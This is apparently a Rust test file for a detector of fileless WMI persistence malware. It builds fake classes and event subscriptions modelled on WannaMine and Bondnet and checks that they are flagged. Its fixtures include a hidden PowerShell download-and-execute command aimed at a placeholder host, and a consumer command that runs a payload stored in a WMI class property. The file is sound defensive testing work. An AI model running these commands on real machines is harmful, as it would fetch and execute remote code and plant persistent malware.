//! Payloads in classes, and classes that bring code.

use super::*;

#[test]
fn a_payload_in_a_class_is_found_by_size_and_names_its_victims() {
    let property = |name: &str, value: String| ClassProperty {
        name: name.into(),
        cim_type: "string".into(),
        default: Some(value.into()),
    };
    let class = WmiClass {
        name: "Win32_Services".into(),
        namespace: Some(r"root\default".into()),
        properties: vec![
            property("mon", "QUJD".repeat(1000)),
            property("funs", "QUJD".repeat(1000)),
            property("ipsu", "10.0.0.7 10.0.0.8".into()),
        ],
        ..WmiClass::default()
    };
    let assessment = assess(&records_of([RecordData::WmiClass(class)]));
    assert_eq!(assessment.verdict, Verdict::Infected);
    let finding = &assessment.findings[0];
    assert_eq!((finding.kind, finding.family.as_deref()), (Kind::ClassStore, Some("WannaMine")));
    assert_eq!((finding.confidence, finding.action), (Confidence::Certain, Action::Remove));
    assert_eq!(assessment.neighbours, ["10.0.0.7", "10.0.0.8"]);
    assert_eq!(state(&assessment, Stage::Prevent), State::Act);
}

#[test]
fn a_class_of_windows_is_no_store() {
    let class = WmiClass {
        name: "StdRegProv".into(),
        namespace: Some(r"root\default".into()),
        properties: vec![ClassProperty {
            name: "x".into(),
            cim_type: "string".into(),
            default: Some("y".repeat(134).into()),
        }],
        ..WmiClass::default()
    };
    assert!(assess(&records_of([RecordData::WmiClass(class)])).findings.is_empty());
}

#[test]
fn a_store_in_pieces_in_qualifiers_or_in_an_instance_is_a_store() {
    let class = |properties: Vec<ClassProperty>, qualifiers: Vec<(String, evidence::Value)>| {
        let class = WmiClass {
            name: "Win32_Updater".into(),
            namespace: Some(r"root\default".into()),
            properties,
            qualifiers,
            ..WmiClass::default()
        };
        assess(&records_of([RecordData::WmiClass(class)])).verdict
    };
    let piece = |at: usize, length: usize| ClassProperty {
        name: format!("p{at}"),
        cim_type: "string".into(),
        default: Some("QUJD".repeat(length / 4).into()),
    };
    assert_eq!(class((0..50).map(|at| piece(at, 960)).collect(), Vec::new()), Verdict::Infected);
    let qualifier = ("Description".to_owned(), "QUJD".repeat(2000).into());
    assert_eq!(class(Vec::new(), vec![qualifier]), Verdict::Infected);
    let command = ClassProperty {
        default: Some(
            "powershell -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"
                .into(),
        ),
        ..piece(0, 0)
    };
    assert_eq!(class(vec![command], Vec::new()), Verdict::Infected);
    let instance = object("Win32_Svc", &[("Name", "x"), ("mon", &"QUJD".repeat(2000))]);
    assert_eq!(assess(&evidence_of([instance])).verdict, Verdict::Suspicious);
}

#[test]
fn a_learned_baseline_does_not_pass_what_a_family_is_known_by() {
    let infected = machine([
        filter(
            "SCM Event8 Log Filter",
            "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        ),
        command(
            "SCM Event8 Log Consumer",
            r"powershell -w hidden -c $funs = ([WmiClass] 'root\default:Win32_Services').Properties['funs'].Value; iex $funs",
        ),
        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
    ]);
    assert_eq!(assess(&infected).findings[0].severity, Severity::Critical);
    let learned =
        Intel::builtin().clone().with_baseline(intel::learn(std::slice::from_ref(&infected), "wrong"));
    assert_eq!(crate::assess(&infected, &learned).verdict, Verdict::Infected);
}

#[test]
fn a_provider_and_a_consumer_class_of_a_family() {
    let registration = object(
        "__EventConsumerProviderRegistration",
        &[
            ("ConsumerClassNames", "ASEventConsumerdr"),
            ("provider", "__Win32Provider.Name=\"ASEventConsumerdr\""),
        ],
    );
    let provider = object("__Win32Provider", &[("Name", "ASEventConsumerdr"), ("CLSID", "{1}")]);
    let other = object("__Win32Provider", &[("Name", "CIMWin32"), ("CLSID", "{2}")]);
    let assessment = assess(&machine([registration, provider, other]));
    let found: Vec<_> = assessment
        .findings
        .iter()
        .map(|f| (f.kind, f.severity, f.confidence, f.name.as_str(), f.family.as_deref()))
        .collect();
    let (kind, medium) = (Kind::ConsumerClass, Severity::Medium);
    assert_eq!(
        found,
        [
            (kind, medium, found[0].2, "ASEventConsumerdr", Some("Bondnet")),
            (kind, medium, found[1].2, "ASEventConsumerdr", Some("Bondnet")),
        ]
    );
    assert!(
        found.iter().any(|f| f.2 == Confidence::Likely) && found.iter().any(|f| f.2 == Confidence::Possible)
    );
}

#[test]
fn a_consumer_class_that_windows_does_not_have() {
    let class = |name: &str, superclass: &str| {
        RecordData::WmiClass(WmiClass {
            namespace: Some(r"root\subscription".into()),
            name: name.into(),
            superclass: Some(superclass.into()),
            ..WmiClass::default()
        })
    };
    let low = |record: RecordData| {
        assess(&complete(records_of([record]))).findings.iter().any(|f| f.kind == Kind::ClassStore)
    };
    assert!(low(class("OddConsumer", "__EventConsumer")));
    assert!(!low(class("OddThing", "")));
    assert!(!low(class("CommandLineEventConsumer", "__EventConsumer")));
}

#[test]
fn what_was_stored_after_windows_says_so() {
    use evidence::{Provenance, Record, Setting};
    let mut evidence = machine([
        filter("F", "SELECT * FROM Win32_ProcessStartTrace"),
        command("C", "cmd.exe /c echo"),
        binding("F", "CommandLineEventConsumer", "C"),
    ]);
    let at: Provenance = evidence
        .records
        .iter()
        .find(|record| matches!(&record.data, RecordData::WmiObject(object) if object.name() == "C"))
        .unwrap()
        .provenance;
    evidence.records.push(Record {
        provenance: at,
        data: RecordData::Setting(Setting {
            kind: "wmi-written-after-install".into(),
            name: "CommandLineEventConsumer.Name=\"C\"".into(),
            value: "2022-03-10T16:35:19Z".into(),
            ..Setting::default()
        }),
    });
    let assessment = assess(&evidence);
    let reasons = &assessment.findings[0].reasons;
    assert!(reasons.iter().any(|reason| reason.id == "reason-added-later"), "{reasons:?}");
    assert_eq!(assessment.timeline.len(), 1);
}
